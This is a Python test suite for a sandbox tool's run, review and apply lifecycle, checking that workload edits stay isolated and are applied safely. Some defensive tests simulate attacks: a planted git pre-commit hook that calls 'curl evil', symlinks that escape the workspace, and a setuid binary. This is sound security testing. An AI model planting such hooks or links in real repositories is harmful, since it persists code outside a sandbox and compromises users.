"""The task lifecycle of `sandgate run`: the workspace is the read-only lower layer of an overlay
(the host's directory is never modified by the run), the run's directory keeps the evidence
(report, audit copy, teed output, policy, upper layer, changes.json, changes.patch), and
`sandgate show/diff/apply/discard/runs` review and apply the changes. From the attacker's side:
a run that plants links or writes .git/hooks must never make `apply` write outside the
workspace or persist code that runs outside the sandbox. Runs as root; the rootless variants
run as a user the test creates."""

import hashlib
import json
import os
import shutil
import stat
import subprocess
import tempfile
import unittest

from run_support import TemporaryUser, WorkspaceRuns, namespaces_refused, run_bounded
from sandgate_fixture import binary


def tree_state(top):
    """{relative path: (type, mode, sha256 or link target)} of everything under `top`, no link
    followed: what a test compares before and after a run."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(top):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            rel = os.path.relpath(p, top)
            if stat.S_ISLNK(st.st_mode):
                out[rel] = ("link", 0, os.readlink(p))
            elif stat.S_ISDIR(st.st_mode):
                out[rel] = ("dir", stat.S_IMODE(st.st_mode), "")
            else:
                with open(p, "rb") as f:
                    out[rel] = ("file", stat.S_IMODE(st.st_mode),
                                hashlib.sha256(f.read()).hexdigest())
    return out


class LifecycleTest(WorkspaceRuns):
    PREFIX = "sandgate-lifecycle-"
    NOT_ROOT = "needs root (as CI runs): the rootless variants create a user"

    def run_dir(self):
        d = tempfile.mkdtemp(dir=self.dir, prefix="runs-")
        return os.path.join(d, "run")

    def cli(self, *args, **kwargs):
        return run_bounded([binary(), *args], 60, **kwargs)

    @staticmethod
    def read_json(run, name):
        with open(os.path.join(run, name)) as f:
            return json.load(f)

    def changes(self, run):
        return {c["path"]: c for c in self.read_json(run, "changes.json")["changes"]}

    def make_repo(self, ws, owner=None):
        """A small tree: a root-only file, a plain file, an executable, a directory with files,
        a link, all owned by `owner` (a TemporaryUser, its uid and gid; None: root)."""
        uid, gid = (owner.uid, owner.gid) if owner is not None else (0, 0)
        files = {"secret.txt": (b"only root reads this\n", 0o600), "a.txt": (b"hello\n", 0o644),
                 "run.sh": (b"#!/bin/sh\necho run\n", 0o644), "sub/one": (b"1\n", 0o644),
                 "sub/two": (b"2\n", 0o644), "old/x": (b"x\n", 0o644)}
        for rel, (data, mode) in files.items():
            p = os.path.join(ws, rel)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, "wb") as f:
                f.write(data)
            os.chmod(p, mode)
        os.symlink("a.txt", os.path.join(ws, "link"))
        for dirpath, dirnames, filenames in os.walk(ws):
            for name in [dirpath] + [os.path.join(dirpath, n) for n in filenames]:
                os.lchown(name, uid, gid)
        os.lchown(os.path.join(ws, "link"), uid, gid)

    # The workload's edits: modify, chmod, rename and delete a root-only file among others, a
    # binary file, a directory replaced (opaque), a directory renamed (copied: no redirects).
    EDITS = ("echo more >> secret.txt && chmod 640 secret.txt && mv secret.txt moved.txt && "
             "echo changed >> a.txt && chmod 755 run.sh && rm sub/one && "
             "rm -rf old && mkdir old && echo new > old/y && mv sub sub2 && "
             "printf '\\000\\001\\002binary' > blob.bin && ln -s moved.txt newlink && "
             "cat moved.txt")

    def check_overlay_run(self, ws, run, r, mode="overlay"):
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("only root reads this\nmore\n", r.stdout)
        report = self.read_json(run, "report.json")
        self.assertEqual(report["run"]["workspace_mode"], mode)
        self.assertEqual(report["run"]["workspace"], os.path.realpath(ws))
        ch = self.changes(run)
        self.assertEqual(ch["secret.txt"]["kind"], "deleted")
        self.assertEqual(ch["moved.txt"]["kind"], "added")
        self.assertEqual(ch["moved.txt"]["after"]["mode"], "0640")
        self.assertEqual(ch["a.txt"]["kind"], "modified")
        self.assertEqual(ch["a.txt"]["before"]["sha256"],
                         hashlib.sha256(b"hello\n").hexdigest())
        self.assertEqual(ch["a.txt"]["after"]["sha256"],
                         hashlib.sha256(b"hello\nchanged\n").hexdigest())
        self.assertEqual(ch["run.sh"]["kind"], "mode")
        self.assertEqual((ch["run.sh"]["before"]["mode"], ch["run.sh"]["after"]["mode"]),
                         ("0644", "0755"))
        for gone in ("sub/one", "sub/two", "sub", "old/x"):
            self.assertEqual(ch[gone]["kind"], "deleted", gone)
        self.assertEqual(ch["old/y"]["kind"], "added")  # the opaque directory's new file
        self.assertEqual(ch["sub2/two"]["kind"], "added")
        self.assertEqual(ch["blob.bin"]["kind"], "added")
        self.assertEqual(ch["newlink"]["after"]["type"], "symlink")
        self.assertEqual(ch["newlink"]["after"]["target"], "moved.txt")
        self.assertNotIn("link", ch)
        self.assertEqual(report["changes"]["deleted"], 5)
        return ch

    def expected_after(self, before_ws):
        """The tree the EDITS leave, made on a plain copy on the host (no sandbox)."""
        copy = tempfile.mkdtemp(dir=self.dir, prefix="expected-")
        shutil.rmtree(copy)
        shutil.copytree(before_ws, copy, symlinks=True)
        subprocess.run(["sh", "-c", self.EDITS], cwd=copy, check=True, capture_output=True)
        return tree_state(copy)

    def test_root_owned_workspace_copy_up_then_apply(self):
        ws = self.new_workspace()
        self.make_repo(ws)
        before = tree_state(ws)
        expected = self.expected_after(ws)
        run = self.run_dir()
        r = self.sandgate(["sh", "-c", self.EDITS], workspace=ws, run_dir=run)
        self.check_overlay_run(ws, run, r)
        self.assertEqual(tree_state(ws), before, "the run modified the host's workspace")
        self.assertEqual(stat.S_IMODE(os.stat(run).st_mode), 0o700)
        # git apply of the patch on a copy reproduces the run's tree (binary file included).
        copy = tempfile.mkdtemp(dir=self.dir, prefix="git-apply-")
        shutil.rmtree(copy)
        shutil.copytree(ws, copy, symlinks=True)
        with open(os.path.join(run, "changes.patch")) as f:
            patch = f.read()
        self.assertIn("GIT binary patch", patch)
        g = subprocess.run(["git", "apply", "--whitespace=nowarn",
                            os.path.join(run, "changes.patch")],
                           cwd=copy, capture_output=True, text=True, timeout=60)
        self.assertEqual(g.returncode, 0, g.stderr)
        got = tree_state(copy)
        # git keeps only the executable bit: compare content and type.
        strip = lambda t: {k: (v[0], v[2]) for k, v in t.items() if v[0] != "dir"}
        self.assertEqual(strip(got), strip(expected))
        # sandgate apply: the same tree, modes included, owned by the workspace's owner.
        a = self.cli("apply", run)
        self.assertEqual(a.returncode, 0, a.stderr)
        self.assertIn("deleted secret.txt", a.stdout)
        self.assertEqual(tree_state(ws), expected)
        self.assertEqual(os.stat(os.path.join(ws, "moved.txt")).st_uid, 0)

    def test_workspace_that_cannot_be_idmapped_falls_back_to_a_copy(self):
        # ramfs has no idmapped mounts: without them no root-owned file could be copied up.
        top = tempfile.mkdtemp(dir=self.dir, prefix="ramfs-")
        m = subprocess.run(["mount", "-t", "ramfs", "-o", "mode=0755", "ramfs", top],
                           capture_output=True, text=True)
        if m.returncode != 0:
            self.skipTest("cannot mount a ramfs here: " + m.stderr.strip())
        self.addCleanup(subprocess.run, ["umount", "-l", top], check=False)
        ws = os.path.join(top, "ws")
        os.mkdir(ws, 0o755)
        self.make_repo(ws)
        before = tree_state(ws)
        expected = self.expected_after(ws)
        run = self.run_dir()
        r = self.sandgate(["sh", "-c", self.EDITS + "; test -x run.sh && ./run.sh"],
                          workspace=ws, run_dir=run)
        if r.returncode == 0 and "cannot be idmapped" not in r.stderr:
            self.skipTest("this kernel idmaps ramfs: the copy fallback is not reached")
        ch = self.check_overlay_run(ws, run, r, mode="copy")
        self.assertIn("run\n", r.stdout)  # the copy is executable (no noexec mount)
        self.assertIn("works on a copy of the workspace (6 files", r.stderr)
        copy = self.read_json(run, "report.json")["run"]["workspace_copy"]
        self.assertIn("cannot be idmapped", copy)
        self.assertIn("0 reflinked", copy)  # ramfs has no reflinks
        self.assertEqual(tree_state(ws), before, "the run modified the host's workspace")
        self.assertNotIn("sub2", ch["sub/two"]["path"])  # a rename: deleted and added
        self.assertNotIn("link", ch)  # copied unchanged: no change
        # The whole tree is in the upper layer, owned by the run's uid.
        upper = os.path.join(run, "overlay", "upper")
        self.assertGreaterEqual(os.stat(os.path.join(upper, "a.txt")).st_uid, 0x7E000000)
        a = self.cli("apply", run)
        self.assertEqual(a.returncode, 0, a.stderr)
        self.assertEqual(tree_state(ws), expected)
        # Nothing the copy cannot honour: no --disk, no layers to resume from.
        for flags in (["--disk", "1M"], ["--from", run]):
            bad = self.sandgate(["true"], *flags, workspace=ws, run_dir=self.run_dir())
            self.assertEqual(bad.returncode, 125, bad.stderr)
            self.assertIn("copy of it", bad.stderr)

    def test_rootless_overlay_leaves_the_host_tree_unchanged(self):
        with TemporaryUser() as user:
            ws = self.new_workspace(owner=user)
            self.make_repo(ws, owner=user)
            before = tree_state(ws)
            runs = tempfile.mkdtemp(dir=self.dir, prefix="runs-")
            os.chown(runs, user.uid, user.gid)
            run = os.path.join(runs, "run")
            r = self.sandgate(["sh", "-c", self.EDITS], workspace=ws, run_dir=run,
                              **user.popen_args())
            if r.returncode == 125 and namespaces_refused(r.stderr):
                self.skipTest("this host refuses unprivileged user namespaces: " + r.stderr)
            self.check_overlay_run(ws, run, r)
            self.assertEqual(tree_state(ws), before, "the rootless run modified the workspace")
            self.assertEqual(os.stat(run).st_uid, user.uid)

    def test_bind_mode_writes_the_workspace_and_says_so(self):
        ws = self.new_workspace()
        run = self.run_dir()
        r = self.sandgate(["sh", "-c", "echo bound > here.txt"], "--workspace-mode", "bind",
                          "--allow-root-workspace",
                          workspace=ws, run_dir=run)
        self.assertEqual(r.returncode, 0, r.stderr)
        with open(os.path.join(ws, "here.txt")) as f:
            self.assertEqual(f.read(), "bound\n")
        report = self.read_json(run, "report.json")
        self.assertEqual(report["run"]["workspace_mode"], "bind")
        self.assertIsNone(report["changes"])
        bad = self.sandgate(["true"], "--workspace-mode", "copy", workspace=ws)
        self.assertEqual(bad.returncode, 2, bad.stderr)
        self.assertIn("expected overlay or bind", bad.stderr)

    def test_bundle_holds_report_logs_policy_and_upper_layer(self):
        ws = self.new_workspace()
        run = self.run_dir()
        r = self.sandgate(["sh", "-c", "echo to-stdout; echo to-stderr >&2; echo f > f.txt"],
                          workspace=ws, run_dir=run)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("to-stdout", r.stdout)  # still reaches the launcher's own streams
        self.assertIn("to-stderr", r.stderr)
        names = set(os.listdir(run))
        self.assertTrue({"report.json", "audit.jsonl", "stdout.log", "stderr.log", "policy.yaml",
                         "changes.json", "changes.patch", "overlay"} <= names, names)
        with open(os.path.join(run, "stdout.log")) as f:
            self.assertEqual(f.read(), "to-stdout\n")
        with open(os.path.join(run, "stderr.log")) as f:
            self.assertEqual(f.read(), "to-stderr\n")
        with open(os.path.join(run, "overlay", "upper", "f.txt")) as f:
            self.assertEqual(f.read(), "f\n")
        with open(os.path.join(run, "policy.yaml"), "rb") as f:
            digest = hashlib.sha256(f.read()).hexdigest()
        report = self.read_json(run, "report.json")
        self.assertEqual(report["run"]["policy_sha256"], digest)
        self.assertFalse(report["run"]["stdout_log_cut"])
        for name in names - {"overlay"}:
            self.assertEqual(stat.S_IMODE(os.lstat(os.path.join(run, name)).st_mode) & 0o077, 0)
        show = self.cli("show", run)
        self.assertEqual(show.returncode, 0, show.stderr)
        self.assertIn("added    f.txt", show.stdout)
        diff = self.cli("diff", run)
        self.assertIn("+++ b/f.txt", diff.stdout)

    def test_output_log_is_bounded_with_a_marker(self):
        ws = self.new_workspace()
        run = self.run_dir()
        r = self.sandgate(["sh", "-c", "head -c 17825792 /dev/zero | tr '\\0' a"],
                          workspace=ws, run_dir=run, timeout=120)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(len(r.stdout), 17825792)  # all of it reached the launcher's stdout
        size = os.path.getsize(os.path.join(run, "stdout.log"))
        self.assertGreaterEqual(size, 16 << 20)
        self.assertLess(size, (16 << 20) + 200)
        with open(os.path.join(run, "stdout.log"), "rb") as f:
            f.seek(16 << 20)
            self.assertIn(b"[sandgate: log cut at 16777216 bytes", f.read())
        self.assertTrue(self.read_json(run, "report.json")["run"]["stdout_log_cut"])

    def test_default_run_directory_runs_and_discard(self):
        ws = self.new_workspace()
        r = self.sandgate(["sh", "-c", "echo x > listed.txt"], workspace=ws)
        self.assertEqual(r.returncode, 0, r.stderr)
        base = os.environ["SANDGATE_RUNS_DIR"]  # tests/support: a temporary directory
        line = [l for l in r.stderr.splitlines() if "sandgate run: run " in l][-1]
        run_id = line.split("sandgate run: run ")[1].split()[0]
        self.assertTrue(os.path.isdir(os.path.join(base, run_id)))
        listing = self.cli("runs")
        self.assertEqual(listing.returncode, 0, listing.stderr)
        row = [l for l in listing.stdout.splitlines() if l.startswith(run_id)]
        self.assertEqual(len(row), 1, listing.stdout)
        self.assertIn("echo x > listed.txt", row[0])
        d = self.cli("discard", run_id)
        self.assertEqual(d.returncode, 0, d.stderr)
        self.assertFalse(os.path.exists(os.path.join(base, run_id)))
        gone = self.cli("show", run_id)
        self.assertEqual(gone.returncode, 2)
        self.assertIn("no_such_run", gone.stderr)
        # discard removes only what is a run's directory, never any directory it is given.
        other = tempfile.mkdtemp(dir=self.dir, prefix="not-a-run-")
        os.mkdir(os.path.join(other, "overlay"))
        with open(os.path.join(other, "keep"), "w") as f:
            f.write("keep")
        d = self.cli("discard", other)
        self.assertEqual(d.returncode, 2, d.stderr)
        self.assertIn("is not a run's directory", d.stderr)
        self.assertTrue(os.path.exists(os.path.join(other, "keep")))

    def test_run_directory_inside_the_workspace_is_refused(self):
        ws = self.new_workspace()
        r = self.sandgate(["true"], workspace=ws, run_dir=os.path.join(ws, "run"))
        self.assertEqual(r.returncode, 2, r.stderr)
        self.assertIn("run_dir_in_workspace", r.stderr)
        self.assertFalse(os.path.exists(os.path.join(ws, "run")))

    def test_apply_refuses_a_conflict_and_writes_nothing(self):
        ws = self.new_workspace()
        self.make_repo(ws)
        run = self.run_dir()
        r = self.sandgate(["sh", "-c", "echo run >> a.txt; echo new > fresh.txt"],
                          workspace=ws, run_dir=run)
        self.assertEqual(r.returncode, 0, r.stderr)
        with open(os.path.join(ws, "a.txt"), "a") as f:
            f.write("edited on the host meanwhile\n")
        before = tree_state(ws)
        check = self.cli("apply", "--check", run)
        self.assertEqual(check.returncode, 1, check.stdout + check.stderr)
        a = self.cli("apply", run)
        self.assertEqual(a.returncode, 1, a.stdout + a.stderr)
        self.assertIn("apply_conflict", a.stderr)
        self.assertIn("a.txt: its content changed", a.stderr)
        self.assertEqual(tree_state(ws), before)
        # --paths leaves the conflicting file out.
        p = self.cli("apply", "--paths", "fresh*", run)
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertTrue(os.path.exists(os.path.join(ws, "fresh.txt")))

    def test_git_hooks_write_is_flagged_and_never_applied(self):
        ws = self.new_workspace()
        subprocess.run(["git", "init", "-q", ws], check=True, capture_output=True, timeout=30)
        sub = os.path.join(ws, "pkg")
        os.mkdir(sub)
        run = self.run_dir()
        # The workspace is the work tree's top: .git is in it, and the run can write there.
        script = "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit; echo code > pkg/main.c"
        r = self.sandgate(["sh", "-c", script], workspace=ws, run_dir=run)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("WARNING: the run wrote .git/hooks/pre-commit", r.stderr)
        report = self.read_json(run, "report.json")
        self.assertEqual(report["changes"]["flagged"], [".git/hooks/pre-commit"])
        ch = self.changes(run)
        self.assertTrue(ch[".git/hooks/pre-commit"]["flagged"])
        with open(os.path.join(run, "changes.patch")) as f:
            patch = f.read()
        # Named at the top (a comment git apply skips), never as a diff.
        self.assertNotIn("diff --git a/.git/", patch)
        self.assertIn("# sandgate: inside .git, not shown, never applied: added "
                      ".git/hooks/pre-commit (FLAGGED", patch)
        self.assertIn("+++ b/pkg/main.c", patch)
        a = self.cli("apply", run)
        self.assertEqual(a.returncode, 0, a.stderr)
        self.assertFalse(os.path.exists(os.path.join(ws, ".git", "hooks", "pre-commit")))
        self.assertTrue(os.path.exists(os.path.join(ws, "pkg", "main.c")))
        # Below the top: paths in the patch are relative to the work tree's top.
        run2 = self.run_dir()
        r = self.sandgate(["sh", "-c", "echo two > two.c"], workspace=sub, run_dir=run2)
        self.assertEqual(r.returncode, 0, r.stderr)
        with open(os.path.join(run2, "changes.patch")) as f:
            self.assertIn("+++ b/pkg/two.c", f.read())
        g = subprocess.run(["git", "apply", "--check", os.path.join(run2, "changes.patch")],
                           cwd=ws, capture_output=True, text=True, timeout=30)
        self.assertEqual(g.returncode, 0, g.stderr)

    def test_links_in_the_changes_never_make_apply_write_outside(self):
        outside = tempfile.mkdtemp(dir=self.dir, prefix="outside-")
        with open(os.path.join(outside, "victim"), "w") as f:
            f.write("untouched\n")
        ws = self.new_workspace()
        os.mkdir(os.path.join(ws, "d"))
        with open(os.path.join(ws, "d", "victim"), "w") as f:
            f.write("in the workspace\n")
        os.mkdir(os.path.join(ws, "later"))
        run = self.run_dir()
        # The workload replaces d by a link out of the workspace and writes through links.
        script = (f"rm -rf d && ln -s {outside} d && ln -s {outside}/victim v && "
                  "echo planted > later/file && echo x > v 2>/dev/null; true")
        r = self.sandgate(["sh", "-c", script], workspace=ws, run_dir=run)
        self.assertEqual(r.returncode, 0, r.stderr)
        before_outside = tree_state(outside)
        # Meanwhile something on the host puts a link where the run wrote a directory's file.
        shutil.rmtree(os.path.join(ws, "later"))
        os.symlink(outside, os.path.join(ws, "later"))
        a = self.cli("apply", run)
        self.assertEqual(a.returncode, 1, a.stdout + a.stderr)
        self.assertIn("later/file", a.stderr)
        self.assertEqual(tree_state(outside), before_outside)
        os.unlink(os.path.join(ws, "later"))
        os.mkdir(os.path.join(ws, "later"))
        a = self.cli("apply", run)
        self.assertEqual(a.returncode, 0, a.stdout + a.stderr)
        self.assertEqual(tree_state(outside), before_outside)
        self.assertEqual(os.readlink(os.path.join(ws, "d")), outside)  # a link, not followed
        with open(os.path.join(outside, "victim")) as f:
            self.assertEqual(f.read(), "untouched\n")

    def check_disk_limit(self, ws, run, **kwargs):
        with open(os.path.join(ws, "keep.txt"), "w") as f:
            f.write("keep\n")
        os.chown(os.path.join(ws, "keep.txt"), os.stat(ws).st_uid, os.stat(ws).st_gid)
        before = tree_state(ws)
        r = self.sandgate(["sh", "-c", "echo small > small.txt; rm keep.txt; "
                           "head -c 3000000 /dev/zero > big; echo big=$?; chmod 000 small.txt"],
                          "--disk", "1M", workspace=ws, run_dir=run, **kwargs)
        if r.returncode == 125 and namespaces_refused(r.stderr):
            self.skipTest("this host refuses unprivileged user namespaces: " + r.stderr)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("big=1", r.stdout)  # head failed: no space left on the upper layer
        self.assertIn("No space left on device", r.stderr)
        self.assertEqual(tree_state(ws), before)
        upper = os.path.join(run, "overlay", "upper")
        self.assertLessEqual(os.path.getsize(os.path.join(upper, "big")), 1 << 20)
        st = os.lstat(os.path.join(upper, "keep.txt"))  # the whiteout, copied out
        self.assertTrue(stat.S_ISCHR(st.st_mode) and st.st_rdev == 0)
        ch = self.changes(run)
        self.assertEqual(ch["keep.txt"]["kind"], "deleted")
        self.assertEqual(ch["small.txt"]["after"]["mode"], "0000")
        self.assertLessEqual(ch["big"]["after"]["size"], 1 << 20)
        self.assertEqual(self.read_json(run, "report.json")["run"]["disk_bytes"], 1 << 20)

    def test_disk_limit_bounds_the_upper_layer(self):
        ws = self.new_workspace()
        self.check_disk_limit(ws, self.run_dir())
        bad = self.sandgate(["true"], "--disk", "1M", "--workspace-mode", "bind", workspace=ws)
        self.assertEqual(bad.returncode, 2, bad.stderr)
        self.assertIn("--disk bounds the overlay", bad.stderr)

    def test_config_disk_default_and_the_flag_over_it(self):
        cfg = os.path.join(tempfile.mkdtemp(dir=self.dir, prefix="cfg-"), "sandgate.yaml")
        with open(cfg, "w") as f:
            f.write("policies: {none: {allow: []}}\ntasks: [{name: default, policy: none}]\n"
                    "sandbox: {disk: 1M}\n")
        write = ["sh", "-c", "head -c 3000000 /dev/zero > big; echo big=$?"]
        ws = self.new_workspace()
        run = self.run_dir()
        r = self.sandgate(write, "--config", cfg, workspace=ws, run_dir=run)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("big=1", r.stdout)  # sandbox.disk bounded the upper layer
        self.assertIn("No space left on device", r.stderr)
        self.assertEqual(self.read_json(run, "report.json")["run"]["disk_bytes"], 1 << 20)
        self.assertEqual(os.listdir(ws), [])
        for flag, size, bytes_ in (("4M", "big=0", 4 << 20), ("unlimited", "big=0", None)):
            run = self.run_dir()
            r = self.sandgate(write, "--config", cfg, "--disk", flag, workspace=ws, run_dir=run)
            self.assertEqual((r.returncode, r.stdout.strip()), (0, size), r.stderr)
            self.assertEqual(self.read_json(run, "report.json")["run"]["disk_bytes"], bytes_)
            self.assertEqual(self.changes(run)["big"]["after"]["size"], 3000000)
        # Bind mode has no upper layer: the default does not apply (and does not refuse).
        r = self.sandgate(["true"], "--config", cfg, "--workspace-mode", "bind",
                          "--allow-root-workspace", workspace=ws)
        self.assertEqual(r.returncode, 0, r.stderr)

    def rootless(self, check, run_name=None):
        """`check(ws, runs or runs/run_name, **popen_args)` as a user the test creates, in a
        workspace and a directory for runs that the user owns."""
        with TemporaryUser() as user:
            ws = self.new_workspace(owner=user)
            runs = tempfile.mkdtemp(dir=self.dir, prefix="runs-")
            os.chown(runs, user.uid, user.gid)
            check(ws, os.path.join(runs, run_name) if run_name else runs, **user.popen_args())

    def test_rootless_disk_limit_bounds_the_upper_layer(self):
        self.rootless(self.check_disk_limit, "run")

    def check_from_and_resume(self, ws, runs, **kwargs):
        for name, data in (("a.txt", "a\n"), ("c.txt", "c\n"), ("d/x", "x\n")):
            os.makedirs(os.path.dirname(os.path.join(ws, name)), exist_ok=True)
            with open(os.path.join(ws, name), "w") as f:
                f.write(data)
        owner = os.stat(ws)
        for dirpath, dirnames, filenames in os.walk(ws):
            for n in dirnames + filenames:
                os.chown(os.path.join(dirpath, n), owner.st_uid, owner.st_gid)
        before = tree_state(ws)
        r1, r2, r3, r4 = (os.path.join(runs, n) for n in ("r1", "r2", "r3", "r4"))
        self.last_runs = r1
        r = self.sandgate(["sh", "-c", "echo one >> a.txt; echo new > n.txt; rm -r d"],
                          workspace=ws, run_dir=r1, **kwargs)
        if r.returncode == 125 and namespaces_refused(r.stderr):
            self.skipTest("this host refuses unprivileged user namespaces: " + r.stderr)
        self.assertEqual(r.returncode, 0, r.stderr)
        with open(os.path.join(r1, "changes.json")) as f:
            r1_changes = f.read()
        # A branch: the earlier run's files are where it left them; new changes on top.
        r = self.sandgate(["sh", "-c", "cat a.txt n.txt; test -e d || echo no-d; "
                           "echo two >> a.txt; rm c.txt; mkdir d; echo y > d/y"],
                          "--from", r1, workspace=ws, run_dir=r2, **kwargs)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(r.stdout, "a\none\nnew\nno-d\n")
        report = self.read_json(r2, "report.json")
        self.assertEqual(report["run"]["branched_from"], "r1")
        self.assertIsNone(report["run"]["resumed_from"])
        ch = self.changes(r2)  # counted from the workspace: both runs' changes
        self.assertEqual({p: c["kind"] for p, c in ch.items() if c["after"] is None or
                          c["after"]["type"] != "dir"},
                         {"a.txt": "modified", "n.txt": "added", "c.txt": "deleted",
                          "d/x": "deleted", "d/y": "added"})
        self.assertEqual(tree_state(ws), before)
        with open(os.path.join(r1, "changes.json")) as f:
            self.assertEqual(f.read(), r1_changes)  # --from leaves the earlier run as it was
        # --resume continues a run once; a second continuation is refused, branching is not.
        r = self.sandgate(["true"], "--resume", r1, workspace=ws, run_dir=r3, **kwargs)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(self.read_json(r3, "report.json")["run"]["resumed_from"], "r1")
        r = self.sandgate(["true"], "--resume", r1, workspace=ws, run_dir=r4, **kwargs)
        self.assertEqual(r.returncode, 2, r.stderr)
        self.assertIn("cannot be resumed", r.stderr)
        a = self.cli("apply", r2, **kwargs)
        self.assertEqual(a.returncode, 0, a.stdout + a.stderr)
        with open(os.path.join(ws, "a.txt")) as f:
            self.assertEqual(f.read(), "a\none\ntwo\n")
        self.assertEqual(sorted(os.listdir(ws)), ["a.txt", "d", "n.txt"])
        self.assertEqual(os.listdir(os.path.join(ws, "d")), ["y"])

    def test_from_and_resume_start_from_an_earlier_runs_files(self):
        ws = self.new_workspace()
        self.check_from_and_resume(ws, tempfile.mkdtemp(dir=self.dir, prefix="runs-"))
        other = self.new_workspace()
        r = self.sandgate(["true"], "--from", os.path.join(self.dir, "nowhere"), workspace=other)
        self.assertEqual(r.returncode, 2, r.stderr)
        # An earlier run of another workspace is no starting point for this one.
        r = self.sandgate(["true"], "--from", os.path.join(os.path.dirname(self.last_runs), "r2"),
                          workspace=other)
        self.assertEqual(r.returncode, 2, r.stderr)
        self.assertIn("did not run in the workspace", r.stderr)

    def test_rootless_from_and_resume(self):
        self.rootless(self.check_from_and_resume)

    def check_exec_log(self, ws, run, rootless=False, **kwargs):
        many = " ".join(f"a{i}" for i in range(70))
        r = self.sandgate(["sh", "-c", "echo hi | tr a-z A-Z | sh -c 'cat; true " + many + "'; "
                           "env true " + "x" * 2000],
                          workspace=ws, run_dir=run, **kwargs)
        if r.returncode == 125 and namespaces_refused(r.stderr):
            self.skipTest("this host refuses unprivileged user namespaces: " + r.stderr)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(r.stdout, "HI\n")
        with open(os.path.join(run, "exec.jsonl")) as f:
            execs = [json.loads(line) for line in f]
        by_prog = {}
        for e in execs:
            by_prog.setdefault(os.path.basename(e["path"]), []).append(e)
        first = execs[0]
        self.assertEqual(first["pid"], 2)  # the command: PID 1 is sandgate's init
        if rootless:
            # Not dumpable until its own exec: a rootless launcher cannot read its arguments.
            self.assertFalse(first["readable"])
            self.assertEqual(first["argv"], [])
        else:
            self.assertTrue(first["readable"])
            self.assertEqual(first["argv"][:2], ["sh", "-c"])
        self.assertTrue(all(e["readable"] for e in execs[1:]), execs)
        self.assertEqual(by_prog["tr"][0]["argv"], ["tr", "a-z", "A-Z"])
        self.assertEqual(by_prog["tr"][0]["ppid"], first["pid"])
        inner = [e for e in by_prog["sh"] if e["argv"][:2] == ["sh", "-c"] and
                 e["argv"][2].startswith("cat;")]
        self.assertEqual(len(inner), 1, execs)
        self.assertIn("cat", by_prog)
        self.assertEqual(by_prog["cat"][0]["ppid"], inner[0]["pid"])
        env = by_prog["env"][0]
        self.assertTrue(env["argv_cut"])
        self.assertEqual(len(env["argv"][2]), 1024)
        self.assertEqual(by_prog["true"][-1]["argv"][0], "true")  # what env executed
        self.assertEqual(by_prog["true"][-1]["ppid"], first["pid"])
        self.assertEqual(self.read_json(run, "report.json")["run"]["execs"], len(execs))

    def test_exec_log_lists_a_nested_pipeline(self):
        self.check_exec_log(self.new_workspace(), self.run_dir())

    def test_rootless_exec_log(self):
        self.rootless(lambda ws, run, **kw: self.check_exec_log(ws, run, rootless=True, **kw),
                      "run")

    def test_apply_drops_setuid_bits(self):
        ws = self.new_workspace()
        run = self.run_dir()
        r = self.sandgate(["sh", "-c", "cp /bin/true t && chmod 4755 t; ls -l t"],
                          workspace=ws, run_dir=run)
        self.assertEqual(r.returncode, 0, r.stderr)
        a = self.cli("apply", run)
        self.assertEqual(a.returncode, 0, a.stderr)
        self.assertEqual(stat.S_IMODE(os.stat(os.path.join(ws, "t")).st_mode) & 0o7000, 0)


if __name__ == "__main__":
    unittest.main()
